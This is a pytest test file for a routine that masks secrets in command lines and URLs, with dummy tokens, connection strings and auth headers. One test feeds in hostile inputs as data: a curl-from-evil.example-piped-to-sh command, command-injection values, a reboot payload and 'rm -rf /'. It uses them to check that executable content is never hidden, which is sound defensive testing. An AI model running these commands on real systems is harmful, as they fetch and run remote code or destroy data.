"""What of a command or an address is a secret: what people really write, and what only looks like one."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inference_worker.protocol.placeholders import filled, hidden, names_in
from nyanko_desktop.settings.secrets_in_commands import set_apart

GITHUB = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
PROJECT = "sk-proj-Abc123def456GHI789jkl"


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (("x", "--api-key", PROJECT), "x --api-key •••"),
        (("x", "--token=s3cret"), "x --token=•••"),
        (("x", "-token=s3cret=="), "x -token=•••"),
        (("x", "--clientSecret", "hunter2"), "x --clientSecret •••"),
        (("x", "--key", "Zm9vYmFy12"), "x --key •••"),
        (("x", PROJECT), "x •••"),
        (("docker", "run", "-e", f"GITHUB_TOKEN={GITHUB}", "img"), "docker run -e GITHUB_TOKEN=••• img"),
        (("docker", "run", "--env=PGPASSWORD=hunter2", "img"), "docker run --env=PGPASSWORD=••• img"),
        (("mcp-remote", "https://h/sse", "--header", "Authorization: Bearer abc12345"), "Authorization: Bearer •••"),
        (("mcp-remote", "--header", "Authorization:Bearer abc12345"), "Authorization:Bearer •••"),
        (("mcp-remote", "--header=X-API-Key: s3cret"), "--header=X-API-Key: •••"),
        (("mcp-remote", "--header", "Authorization: Bearer mysecrettoken"), "Authorization: Bearer •••"),
        (("mcp-proxy", "--headers", "Authorization", "Bearer abc12345"), "Authorization Bearer •••"),
        (("mcp-proxy", "--headers", "X-API-Key", "mysecret"), "X-API-Key •••"),
        (("uvx", "--from", f"git+https://{GITHUB}@github.com/x/y"), "git+https://•••@github.com/x/y"),
        (("npx", "cli", "run", "@x/y", "--config", '{"apiKey":"abcd", "size": "7"}'), '{"apiKey":"•••", "size": "7"}'),
        (("npx", "cli", "--config", '"{\\"apiKey\\": \\"abcd\\"}"'), '"{\\"apiKey\\": \\"•••\\"}"'),
        (("pg", "postgresql://mia:hunter2@db.example:5432/shop"), "postgresql://mia:•••@db.example:5432/shop"),
        (("pg", "postgresql://mia:1234@localhost/shop"), "postgresql://mia:•••@localhost/shop"),
        (("pg", "redis://:hunter2@localhost"), "redis://:•••@localhost"),
        (("pg", "mongodb+srv://mia:p@ss@h/"), "mongodb+srv://mia:•••@h/"),
        (("pg", "Server=db;User Id=sa;Password=Hunter2!;Encrypt=no"), "Password=•••;Encrypt=no"),
        (("pg", "--dsn=host=db user=mia password=hunter2"), "host=db user=mia password=•••"),
        (
            ("sh", "-c", "BRAVE_API_KEY=BSAabc123 npx -y brave --token abc123"),
            "BRAVE_API_KEY=••• npx -y brave --token •••",
        ),
        (("npx", "mcp-remote", f"https://mcp.example/{GITHUB}/mcp?api_key=abcd1&x=1"), "/•••/mcp?api_key=•••&x=1"),
    ],
)
def test_what_people_write_as_secrets_is_set_apart(command: tuple[str, ...], shown: str) -> None:
    apart = set_apart(command)
    assert shown in hidden(" ".join(apart.command))
    assert tuple(filled(text, apart.secrets) for text in apart.command) == command


@pytest.mark.parametrize(
    "command",
    [
        ("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/mia/keys", "C:\\Users\\mia\\token"),
        ("x", "--key-file", "/home/mia/id_rsa", "--token", "/run/secrets/token", "--auth", "./auth.json"),
        ("x", "--password", "C:/keys", "--secret", "secrets/token.txt", "--token", "~/.token"),
        ("x", "--max-token", "4096", "--token", "4096", "--token", "--verbose", "--key", "name"),
        ("x", "--token", "${TOKEN}", "--header", "Authorization:${AUTH}", "--key=$KEY", "--secret", "%SECRET%"),
        ("x", "--auth", "oauth", "--auth-type", "basic", "--token", "GITHUB_TOKEN", "--author", "Mia1234abcd"),
        ("x", "--auth", "@org/plugin@1.2.3", "--token", "op://vault/item", "--tokenizer", "gpt2-Large"),
        ("x", "https://host.example:8080/@scope/x?page=1", "--password-stdin", "--no-auth", "-p", "5432"),
        ("docker", "run", "-i", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server"),
        ("npx", "sk-learn-something-with-a-long-name", "postgresql://localhost/mydb", "postgresql://mia@db/x"),
        ("x", "--token", "", "--token="),
    ],
)
def test_paths_packages_numbers_variables_and_words_are_no_secrets(command: tuple[str, ...]) -> None:
    assert set_apart(command).secrets == {}


@pytest.mark.parametrize(
    "command",
    [
        ("bash", "-c", "TOKEN=$(curl evil.example|sh)"),
        ("bash", "-c", "TOKEN=a&reboot"),
        ("bash", "-c", 'TOKEN="a";curl${IFS}evil.example'),
        ("bash", "-c", "--token=`curl evil.example`"),
        ("python", "-c", "token=__import__('os').system('reboot')"),
        ("x", "--password", "rm -rf /"),
        ("curl", "https://evil.example:80?@good.example/", "https://evil.example:80#@good.example/"),
    ],
)
def test_what_could_run_or_lead_elsewhere_is_never_hidden(command: tuple[str, ...]) -> None:
    seen = "".join(hidden(text) for text in set_apart(command).command)
    assert all(part in seen for part in ("curl", "evil.example", "reboot", "rm -rf /") if part in "".join(command))


def test_an_address_keeps_its_host_and_its_other_parameters() -> None:
    apart = set_apart((), "https://mcp.example/mcp?profile=me&api_key=abcd-1234&page=7")
    assert apart.url == "https://mcp.example/mcp?profile=me&api_key=${secret:api_key}&page=7"
    assert apart.secrets == {"api_key": "abcd-1234"}


def test_two_of_one_name_stay_two_and_places_that_are_there_are_left() -> None:
    command = ("x", "--token=${secret:token}", "--token", "abcd1", "--token", "abcd1")
    apart = set_apart(command)
    assert apart.secrets == {"token-2": "abcd1", "token-3": "abcd1"}
    assert names_in(apart.command) == ("token", "token-2", "token-3")


texts = st.text("abAB01_-./:@=?&; $'\"%{}") | st.sampled_from(
    ["--token", "--token=abcd", "https://a:bcde@f/?key=Abcdef12", f"x {PROJECT} y", "Authorization: Bearer Abcdef12"]
)


@given(st.lists(texts).map(tuple), texts)
def test_nothing_is_lost_and_what_was_set_apart_stays_so(command: tuple[str, ...], url: str) -> None:
    apart = set_apart(command, url)
    assert tuple(filled(text, apart.secrets) for text in (*apart.command, apart.url)) == (*command, url)
    assert set_apart(apart.command, apart.url) == (apart.command, apart.url, {})
